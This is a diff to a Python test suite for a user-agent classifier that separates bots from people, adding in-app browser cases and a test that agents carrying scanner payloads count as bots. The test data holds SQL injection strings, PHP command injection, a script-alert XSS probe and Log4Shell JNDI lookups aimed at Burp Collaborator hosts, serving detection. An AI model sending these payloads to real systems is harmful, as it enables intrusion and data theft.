@@ -29,6 +29,8 @@ def test_the_corpus_covers_every_class():
             "whatsapp",
             "line",
             "wechat",
+            "qq",
+            "google",
             "viber",
         } <= apps, os
     assert {e["browser"] for e in expected if e["kind"] == "android" and not e["in_app"]} == {
@@ -68,6 +70,7 @@ def test_the_corpus_holds_every_previewer_the_issue_names():
         "vkshare",
         "bluesky cardyb",
         "thirdlandingpagefeinfra",
+        "googlemessages",
     ):
         assert token in agents, token
 
@@ -170,3 +173,87 @@ def test_a_phone_model_named_like_a_crawler_is_a_person():
     )
     assert not classify(htc).is_bot
     assert classify(htc.replace("Safari/537.36", "Safari/537.36 (compatible; Butterfly/1.0)")).is_bot
+
+
+CHROME = (
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
+)
+
+
+@pytest.mark.parametrize(
+    "agent",
+    [
+        # Published by isbot (fixtures/crawlers.yml): Burp Suite's out-of-band probes.
+        "Godzilla/17.0 (Unknown Operator; Nexus 5X Build/MMB29P) NoWebKit/5.36 (DOM, like Rhino; "
+        "n7vbji2k0wt3rsbev55blgx17sdk8lwek97zvo.burpcollaborator.net) TOR/540.5.35487 Torrent 2654.76",
+        "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/75.0.3770.142 "
+        "Safari/537.36'+(select load_file('x97bjuqgzjb9cjiodeygpdyxkoqledf164uzhp5e.burpcollaborator.netszc'))+'",
+        "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/55.0.2883.87 "
+        "Safari/537.36 root@8f6gtjctw9glvnasfrq438tprig56wty20ghwkf9.burpcollaborator.net",
+        # Published by isbot among its browsers ("glitches"): payloads without a browser around them.
+        "LWPrCa2l') OR 941=(SELECT 941 FROM PG_SLEEP(15))--",
+        'Mozilliqa"<?=print(9347655345-4954366);?>"',
+        # The same payloads a scanner appends to a real browser's agent.
+        CHROME + "' OR 1=1--",
+        CHROME + "' or '1'='1",
+        CHROME + '") OR ("a"="a',
+        CHROME + "' UNION SELECT NULL,NULL--",
+        CHROME + " UNION ALL SELECT 1,2,3",
+        CHROME + "' AND SLEEP(5)#",
+        CHROME + "'; WAITFOR DELAY '0:0:5'--",
+        CHROME + "<?=print(9347655345-4954366);?>",
+        CHROME + "<?php system('id'); ?>",
+        CHROME + "<script>alert(1)</script>",
+        CHROME + "${jndi:ldap://x.burpcollaborator.net/a}",
+        CHROME + " ${jndi:dns://192.0.2.1/a}",
+        CHROME + " x.oastify.com",
+    ],
+)
+def test_agents_carrying_an_attack_payload_are_automated(agent):
+    assert classify(agent).is_bot
+
+
+@pytest.mark.parametrize(
+    "agent",
+    [
+        # Words the payload rule reads, in agents people send.
+        CHROME + " OPR/114.0.0.0 (Edition std-1)",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox Series X) AppleWebKit/537.36 (KHTML, like Gecko) "
+        "Chrome/48.0.2564.82 Safari/537.36 Edge/20.02",
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+        "Mobile/15E148 [FBAN/FBIOS;FBAV/470.0.0.52.103;FBBV/612284364;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;"
+        "FBSV/17.5;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5;FBRV/614826045]",
+    ],
+)
+def test_people_are_not_taken_for_payloads(agent):
+    assert not classify(agent).is_bot
+
+
+def test_wechat_and_qq_browsers_are_people_in_their_app():
+    """isbot lists these X5-engine agents ("MQQBrowser/6.2 TBS/…") as crawlers: they are WeChat's
+    and QQ's in-app browsers, a person opening a link (docs/bots.md)."""
+    by_name = {row["name"]: row for row in CORPUS}
+    for name, app in (
+        ("android wechat x5 tbs", "wechat"),
+        ("android wechat x5 tbs glued", "wechat"),
+        ("android qq x5 tbs", "qq"),
+        ("iphone qq", "qq"),
+    ):
+        visitor = classify(by_name[name]["ua"])
+        assert not visitor.is_bot and visitor.in_app == app, name
+
+
+def test_bare_app_agents_of_facebook_and_google_are_people_but_not_other_apps():
+    facebook = classify(
+        "[FBAN/FB4A;FBAV/567.1.0.52.74;FBBV/1003893689;FBDM/{density=3.0,width=1080,height=2340};FBLC/nl_NL;"
+        "FBRV/1012267334;FBCR/NL KPN;FBMF/samsung;FBBD/samsung;FBPN/com.facebook.katana;FBDV/SM-S921B;FBSV/16;"
+        "FBOP/1;FBCA/arm64-v8a:;]"
+    )
+    assert (facebook.is_bot, facebook.kind, facebook.in_app) == (False, "android", "facebook")
+    google = classify("GoogleApp/14.35.18.28.arm64")
+    assert (google.is_bot, google.kind, google.in_app) == (False, "android", "google")
+    # Another app's bare agent is its HTTP client (Viber's link fetcher), still a program.
+    assert classify("Viber/12.8.0.1 CFNetwork/1121.2.2 Darwin/19.3.0").is_bot
+    # The app's token is no pass for a program's words or a payload beside it.
+    assert classify("GoogleApp/14.35.18.28.arm64 python-requests/2.32").is_bot
+    assert classify("[FBAN/FB4A;FBAV/567.1.0.52.74;FBPN/com.facebook.katana;]' OR 1=1--").is_bot
